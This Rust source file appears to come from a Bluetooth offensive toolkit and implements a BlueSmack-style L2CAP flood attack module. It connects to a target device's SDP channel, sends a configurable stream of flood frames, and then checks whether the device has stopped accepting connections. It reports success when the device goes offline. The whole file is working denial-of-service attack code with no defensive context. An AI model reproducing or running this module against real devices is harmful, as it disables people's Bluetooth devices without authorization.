//! L2CAP flood (BlueSmack-style).

use async_trait::async_trait;
use std::time::Duration;

use bluefang_codec::l2cap;
use bluefang_common::{AttackKind, BdAddr, BlueResult, Transport};

use crate::module::{AttackContext, AttackModule};
use crate::probe;

/// Pause before re-probing the flooded channel.
const SETTLE: Duration = Duration::from_secs(1);

#[derive(Debug, Default)]
pub struct Flood {
    sent: u32,
}

impl Flood {
    pub fn new() -> Self {
        Self::default()
    }
}

#[async_trait]
impl AttackModule for Flood {
    fn kind(&self) -> AttackKind {
        AttackKind::Flood
    }

    async fn check_vulnerability(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        if probe::device_info(ctx, target).await?.is_some() {
            ctx.log.info("Target is reachable");
            Ok(true)
        } else {
            Ok(false)
        }
    }

    async fn exploit(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let Some(mut sock) = probe::open(ctx, target, Transport::L2cap, l2cap::psm::SDP).await? else {
            ctx.log.error("L2CAP connection refused");
            return Ok(false);
        };

        let count = ctx.config.packet_count;
        let frame = l2cap::flood_frame(ctx.config.packet_size);
        ctx.log.info(format!("Sending {} frames of {} bytes", count, frame.len()));
        for i in 0..count {
            ctx.cancel.check()?;
            if !probe::send(ctx, sock.as_mut(), &frame).await? {
                ctx.log.warning(format!("Send failed after {} frames", self.sent));
                break;
            }
            self.sent += 1;
            if (i + 1) % 10 == 0 {
                ctx.log.detail(format!("{} frames sent", i + 1));
            }
            if i + 1 < count {
                ctx.cancel.sleep(ctx.config.packet_interval()).await?;
            }
        }
        drop(sock);

        ctx.log.info(format!("{} frames sent", self.sent));
        Ok(self.sent > 0)
    }

    async fn run_payload(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        ctx.cancel.sleep(SETTLE).await?;
        match probe::open(ctx, target, Transport::L2cap, l2cap::psm::SDP).await? {
            Some(_) => {
                ctx.log.warning("Target still accepts connections");
                Ok(false)
            }
            None => {
                ctx.log.success("Target stopped accepting connections");
                Ok(true)
            }
        }
    }
}
